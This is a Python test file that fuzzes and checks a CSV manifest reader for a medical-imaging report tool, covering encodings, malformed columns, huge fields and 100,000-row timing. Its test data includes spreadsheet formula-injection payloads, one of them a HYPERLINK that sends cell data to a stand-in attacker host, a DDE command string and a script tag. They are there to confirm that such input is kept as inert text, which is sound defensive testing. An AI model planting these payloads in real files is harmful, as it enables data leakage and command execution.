"""Reliability: any manifest file ends in a Manifest or a CovreportError with a clear message.

Hypothesis writes CSV files the way hospital exports go wrong (random bytes,
wrong delimiters, BOM, Latin-1/UTF-16, missing, extra and duplicated
columns, quoted line breaks, huge fields, spreadsheet formulas) and checks
that :func:`covreport.manifest.read_manifest` returns a :class:`Manifest`
whose invariants hold, or raises a :class:`CovreportError` whose every line
names the file; never any other exception, and never a file written.
The 100,000-row cases pin the validation cost (issue 2: "a few seconds").
"""

import csv
import io
import json
import os
import re
import tempfile
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from covreport.cli import main
from covreport.constants import EXCLUSION_STAGES, OPTIONAL_COLUMNS, OUTCOMES, REQUIRED_COLUMNS
from covreport.errors import CovreportError, ManifestError
from covreport.manifest import Manifest, read_manifest

# --------------------------------------------------------------------------
# What every outcome must satisfy


def check_outcome(path, **kwargs):
    """read_manifest(path) -> Manifest with its invariants, or a clear CovreportError.

    Returns the Manifest or the error. Any other exception propagates (and
    fails the test). No file may appear beside the manifest.
    """
    path = Path(path)
    before = sorted(os.listdir(path.parent))
    try:
        m = read_manifest(path, **kwargs)
    except CovreportError as exc:
        check_message(exc, path)
        result = exc
    else:
        check_manifest(m)
        result = m
    assert sorted(os.listdir(path.parent)) == before, "reading a manifest wrote a file"
    return result


def check_message(exc, path):
    text = str(exc)
    assert text.strip(), "empty error message"
    assert "Traceback" not in text and " object at 0x" not in text
    lines = re.split(r"\r\n|\r|\n|\x85|\u2028|\u2029", text)
    for line in lines:  # one-line errors and every line of a problem list name the file
        assert line.startswith(str(path)), f"line does not name the file: {line!r}"
    # Problem lists are capped (20 shown per kind), however many rows are bad.
    assert len(lines) <= 400, f"{len(lines)} lines of error"
    if isinstance(exc, ManifestError) and len(lines) > 1:
        assert "problems; fix them all" in lines[0] or "1 problem; fix it" in lines[0]


def check_manifest(m):
    assert isinstance(m, Manifest)
    pairs = m.pairs
    assert len(pairs) >= 1
    assert pairs["pair_id"].is_unique
    assert set(pairs["outcome"].dropna()) <= set(OUTCOMES)
    assert set(pairs["sex"].dropna()) <= {"M", "F"}
    assert (pairs["patient_id"].str.strip() != "").all()
    assert (pairs["first_image"].str.strip() != "").all() and (pairs["second_image"].str.strip() != "").all()
    ages = pairs["age"].dropna()
    assert ((ages >= 0) & (ages <= 120)).all()
    ex = m.exclusions
    assert set(ex["pair_id"]) <= set(pairs["pair_id"])
    assert ex["pair_id"].is_unique
    assert set(ex["stage"]) <= set(EXCLUSION_STAGES)
    assert all(isinstance(r, str) and r for r in ex["reason"])
    assert len(m.analysable_pairs()) + len(ex) == len(pairs)
    # An image with a reason is an exclusion; an empty outcome is one too.
    no_outcome = set(pairs.loc[pairs["outcome"].isna(), "pair_id"])
    assert no_outcome <= set(ex["pair_id"])
    json.dumps(m.summary(), allow_nan=False)


# --------------------------------------------------------------------------
# Hypothesis: bytes, and CSV text as exports get it wrong

_NAMES = list(REQUIRED_COLUMNS) + list(OPTIONAL_COLUMNS) + [
    "patientid", "Patient ID", "OUTCOME", "first image", "Second_Image", "site", "", " notes ",
    "line", "first_path", "\ufeffpatient_id", "=HYPERLINK(\"http://evil.example/\",\"x\")",
]
_SPECIAL = [
    "", " ", "Worse", "s", "IMPROVED", "w", "worsened", "Unchanged", "P1", "P2", "P3",
    "a.png", "b.png", "c.png", "../c.png", "sub/./d.png", "a.png ", "2020-03-01", "2020-03-01T10:00Z",
    "2020-13-45", "1899-01-01", "03/04/2020", "12", "12,5", "-3", "121", "nan", "inf", "abc",
    "M", "female", "U", "x", "AP", "ap supine", "Lateral", "PA ",
    '=HYPERLINK("http://evil.example/","click")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "=1+1",
    "<script>alert(1)</script>", "a,b", "a;b", 'q"uote', "line\nbreak", "cr\rcell", "tab\tcell",
    "caf\u00e9", "\u60a3\u8005", "\U0001f600", "\u202eevil", "\ufeff",
]
_CELL = st.one_of(
    st.sampled_from(_SPECIAL),
    st.sampled_from(_SPECIAL),
    st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=12),
    st.integers(100, 5000).map(lambda n: "N" * n),
)


@st.composite
def csv_files(draw):
    """(bytes, suffix) of a CSV file, from nearly right to badly wrong."""
    kind = draw(st.sampled_from(["valid-ish", "names", "names"]))
    if kind == "valid-ish":
        header = list(draw(st.permutations(list(REQUIRED_COLUMNS))))
        header += draw(st.lists(st.sampled_from(_NAMES), max_size=4))
    else:
        header = draw(st.lists(st.sampled_from(_NAMES), min_size=0, max_size=9))
    width = len(header)
    rows = draw(st.lists(
        st.lists(_CELL, min_size=max(0, width - 2), max_size=width + 2), min_size=0, max_size=7))
    delimiter = draw(st.sampled_from([",", ",", ";", "\t", "|", ":", " "]))
    quoting = draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL, csv.QUOTE_NONE]))
    newline = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    buf = io.StringIO(newline="")
    writer = csv.writer(buf, delimiter=delimiter, quoting=quoting, escapechar="\\", lineterminator=newline)
    for row in [header] + rows:
        try:
            writer.writerow(row)
        except csv.Error:  # e.g. QUOTE_NONE cannot write a row of one empty field
            csv.writer(buf, delimiter=delimiter, lineterminator=newline).writerow(row)
    text = buf.getvalue()
    if draw(st.booleans()):
        text = text.rstrip("\r\n")
    encoding = draw(st.sampled_from(["utf-8", "utf-8", "utf-8-sig", "latin-1", "cp1252", "utf-16"]))
    data = text.encode(encoding, errors="replace")
    if draw(st.integers(0, 9)) == 0:  # cut short, as by a failed copy
        data = data[: draw(st.integers(0, len(data)))]
    return data, draw(st.sampled_from([".csv", ".csv", ".txt", ".xlsx"]))


@settings(max_examples=200, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(csv_files(), st.booleans(), st.booleans())
def test_generated_csv_gives_manifest_or_clear_error(file, strict, check_images):
    data, suffix = file
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / f"manifest{suffix}"
        path.write_bytes(data)
        (Path(tmp) / "a.png").write_bytes(b"not an image")  # one unreadable image, others missing
        check_outcome(path, strict=strict, check_images=check_images)


@settings(max_examples=120, deadline=None)
@given(st.binary(max_size=3000), st.sampled_from([b"", b"\xef\xbb\xbf", b"PK\x03\x04", b"patient_id,"]),
       st.sampled_from([".csv", ".xlsx", ".xls", ".ods"]))
def test_random_bytes_give_manifest_or_clear_error(data, prefix, suffix):
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / f"m{suffix}"
        path.write_bytes(prefix + data)
        check_outcome(path, check_images=False)


# --------------------------------------------------------------------------
# Named cases: the precise outcome

GOOD = "patient_id,first_image,second_image,outcome,notes\nP1,a.png,b.png,Worse,fine\n"


def _write(tmp_path, name, data):
    path = tmp_path / name
    path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
    return path


@pytest.mark.parametrize("name, data, fragment", [
    ("latin1.csv", "patient_id,first_image,second_image,outcome,notes\nP1,a.png,b.png,Worse,caf\xe9\n"
     .encode("latin-1"), "is not UTF-8 text (byte 0xE9 at offset 74, line 2; Latin-1 or Windows-1252?)"),
    ("utf16.csv", GOOD.encode("utf-16"), "is UTF-16 text -- re-save it as UTF-8"),
    ("junk.csv", bytes(range(256)) * 8, "is not a text CSV file (binary data at byte 0)"),
    ("empty.csv", b"", "is empty -- write a header line"),
    ("header.csv", b"patient_id,first_image,second_image,outcome\n", "has a header but no pairs"),
    ("colon.csv", GOOD.replace(",", ":"), "column 'patient_id': missing -- add a column 'patient_id'"),
    ("renamed.csv", GOOD.replace("patient_id", "PatientID"),
     "column 'patient_id': missing -- rename column 'PatientID' to 'patient_id'"),
    ("dup.csv", GOOD.replace("notes", "outcome").replace("fine", "Stable"),
     "column 'outcome': appears 2 times (columns 4 and 5) -- keep one of them"),
    ("reserved.csv", GOOD.replace("notes", "first_path"), "column 'first_path': reserved name"),
    ("toolong.csv", GOOD.replace("fine", "fine,extra"), "line 2: 6 fields but the header has 5"),
    ("quote.csv", GOOD.replace(",b.png", ',"b.png') + "P2,c.png,d.png,Stable,ok\n",
     "line 2, column 'second_image': 'b.png,Worse,fine\\nP2,c.png,d.png,Stable,ok\\n' -- a line break inside "
     "a cell: check for an unmatched double quote"),
    ("old.xls", b"\xd0\xcf\x11\xe0" + b"\x00" * 600, "is an old Excel .xls workbook"),
    ("bad.xlsx", b"PK\x03\x04" + b"junk" * 50, "cannot be read as an Excel workbook"),
])
def test_bad_file_precise_error(tmp_path, name, data, fragment):
    path = _write(tmp_path, name, data)
    with pytest.raises(ManifestError) as err:
        read_manifest(path)
    check_message(err.value, path)
    assert fragment in str(err.value)
    # The CLI says the same in one `Error:` block and exits 1, without a traceback.
    result = CliRunner().invoke(main, ["validate", str(path)])
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit)
    assert result.output.startswith(f"Error: {path}") and fragment in result.output
    assert "Traceback" not in result.output


@pytest.mark.parametrize("name, data, warning", [
    ("bom.csv", b"\xef\xbb\xbf" + GOOD.encode(), None),
    ("semicolon.csv", GOOD.replace(",", ";"), "semicolon-separated"),
    ("tab.csv", GOOD.replace(",", "\t"), "tab-separated"),
    ("crlf.csv", GOOD.replace("\n", "\r\n"), None),
    ("cr.csv", GOOD.replace("\n", "\r"), None),
    ("extra.csv", GOOD.replace("notes", "notes,site,site 2").replace("fine", "fine,x,y"), None),
])
def test_tolerated_variants_read_the_same_pair(tmp_path, name, data, warning):
    path = _write(tmp_path, name, data)
    m = check_outcome(path, check_images=False)
    assert isinstance(m, Manifest), m
    rec = m.pairs.iloc[0]
    assert (rec["patient_id"], rec["first_image"], rec["second_image"], rec["outcome"]) == \
        ("P1", "a.png", "b.png", "Worse")
    if warning:
        assert any(warning in w for w in m.warnings)
    if name == "extra.csv":
        assert m.extra_columns == ["site", "site 2"] and m.pairs.loc[0, "site 2"] == "y"


@pytest.mark.parametrize("size, quoted", [(200_000, True), (2_000_000, False)])
def test_huge_field_is_read_whole(tmp_path, size, quoted):
    # The csv module's default limit is 131,072 characters per field; a long
    # quoted notes cell used to be refused with a misleading "check the quoting".
    cell = "x" * size
    text = GOOD.replace("fine", f'"{cell}"' if quoted else cell)
    m = check_outcome(_write(tmp_path, "huge.csv", text), check_images=False)
    assert isinstance(m, Manifest) and m.pairs.loc[0, "notes"] == cell
    assert csv.field_size_limit() == 131072  # the global limit is restored


def test_formulas_are_kept_as_text_and_reported(tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    text = ("pair_id,patient_id,first_image,second_image,outcome,notes\n"
            f'"@SUM(1+1)",P1,a.png,b.png,Worse,"{formula.replace(chr(34), chr(34) * 2)}"\n'
            "p2,-2+3,c.png,d.png,Stable,+cmd\n")
    m = check_outcome(_write(tmp_path, "f.csv", text), check_images=False)
    assert isinstance(m, Manifest)
    assert m.pairs["notes"].tolist() == [formula, "+cmd"]
    assert m.pairs["pair_id"].tolist() == ["@SUM(1+1)", "p2"]
    assert m.pairs["patient_id"].tolist() == ["P1", "-2+3"]
    assert any("3 cells starting with =, +, - or @" in w and "never evaluated" in w for w in m.warnings)


# --------------------------------------------------------------------------
# 100,000 rows


def write_big(path, n, *, outcome="cycle", bad_age=False):
    outcomes = ("Worse", "Stable", "Improved")
    lines = ["pair_id,patient_id,first_image,second_image,outcome,first_date,second_date,age,sex,notes"]
    for k in range(n):
        p = k // 4
        o = outcomes[k % 3] if outcome == "cycle" else ""
        age = "abc" if bad_age else str(20 + p % 70)
        lines.append(f"pr{k},P{p},img/{p}_{k % 4}.png,img/{p}_{k % 4 + 1}.png,{o},2020-03-01,2020-03-04,"
                     f"{age},{'MF'[p % 2]},=cmd{k}")
    Path(path).write_text("\n".join(lines) + "\n", encoding="utf-8")


def _timed(fn, *args, **kwargs):
    c0 = time.process_time()
    try:
        value = fn(*args, **kwargs)
    except CovreportError as exc:
        value = exc
    return value, time.process_time() - c0


# CPU-time bounds (not wall time: the CI machine is shared). Measured on the
# 2-core development machine at ~1.5-3 CPU-s; the bounds leave 3-5x headroom.
_CPU_BOUND_S = 12.0


@pytest.mark.slow
@pytest.mark.parametrize("outcome", ["cycle", "empty"])
def test_100k_pairs_validate_in_seconds(tmp_path, outcome):
    path = tmp_path / "big.csv"
    write_big(path, 100_000, outcome=outcome)
    m, cpu = _timed(check_outcome, path, check_images=False)
    assert isinstance(m, Manifest), m
    assert len(m.pairs) == 100_000
    assert len(m.exclusions) == (100_000 if outcome == "empty" else 0)
    assert cpu < _CPU_BOUND_S, f"validating 100,000 pairs took {cpu:.1f} CPU-s"


@pytest.mark.slow
def test_100k_bad_rows_give_one_bounded_error(tmp_path):
    path = tmp_path / "big.csv"
    write_big(path, 100_000, bad_age=True)
    err, cpu = _timed(read_manifest, path, check_images=False)
    assert isinstance(err, ManifestError)
    check_message(err, path)
    text = str(err)
    assert text.startswith(f"{path}: 100000 problems; fix them all and validate again:")
    assert f"{path}: 99980 more like: column 'age': 'abc' -- give the age in years" in text
    assert len(err.problems) == 100_000
    assert cpu < _CPU_BOUND_S, f"refusing 100,000 bad rows took {cpu:.1f} CPU-s"


# --------------------------------------------------------------------------
# Through `covreport run`: a refused manifest writes nothing


@pytest.mark.parametrize("name, data", [
    ("latin1.csv", "patient_id,first_image,second_image,outcome\nP1,a.png,b.png,Worse caf\xe9\n".encode("latin-1")),
    ("junk.csv", bytes(range(256)) * 8),
    ("dup.csv", GOOD.replace("notes", "outcome").replace("fine", "Stable")),
])
def test_run_with_a_refused_manifest_writes_nothing(tmp_path, name, data):
    path = _write(tmp_path, name, data)
    (tmp_path / "scores.csv").write_text("image,Edema\na.png,0.5\nb.png,0.5\n")
    before = sorted(os.listdir(tmp_path))
    result = CliRunner().invoke(main, ["run", str(path), "--scores", str(tmp_path / "scores.csv"),
                                       "--out", str(tmp_path / "out"), "--no-pdf"])
    assert result.exit_code == 1 and result.output[result.output.find("Error: "):].startswith(f"Error: {path}")
    assert "Traceback" not in result.output
    assert sorted(os.listdir(tmp_path)) == before  # no output folder, no temporary folder
